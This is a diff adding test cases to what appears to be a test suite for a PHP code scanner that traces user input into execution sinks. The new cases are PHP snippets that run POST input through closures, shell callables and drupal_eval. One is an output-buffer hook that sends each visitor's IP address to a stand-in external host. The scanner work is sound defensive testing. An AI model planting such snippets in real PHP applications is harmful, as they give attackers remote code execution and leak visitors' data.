@@ -54,6 +54,17 @@ describe('what PHP calls by itself is followed', () => {
       'a method of any name',
       `class F { function __call($n, $a) { return $n(...$a); } } $m = ${GET}['i']; (new F)->$m(${GET}['j']);`,
     ],
+    [
+      'a closure that is lent to an object',
+      `$f = function ($x) { ${RUN}($x); }; $f->call(new stdClass, ${POST}['i']);`,
+    ],
+    [
+      'the page as it goes out',
+      `ob_start(function ($page) { return $page . file_get_contents('http://inert.example.test/' . $_SERVER['REMOTE_ADDR']); });`,
+    ],
+    ['text that Drupal runs', `drupal_eval(${POST}['i']);`],
+    ['a closure bound to one', `$f = function ($x) { ${RUN}($x); }; $g = $f->bindTo(new stdClass); $g(${POST}['i']);`],
+    ['a function made a closure', `$f = Closure::fromCallable('${SHELL}'); $f->call(new stdClass, ${POST}['i']);`],
   ])('%s', (_, code) => {
     expect(grave(code)).not.toEqual([]);
   });
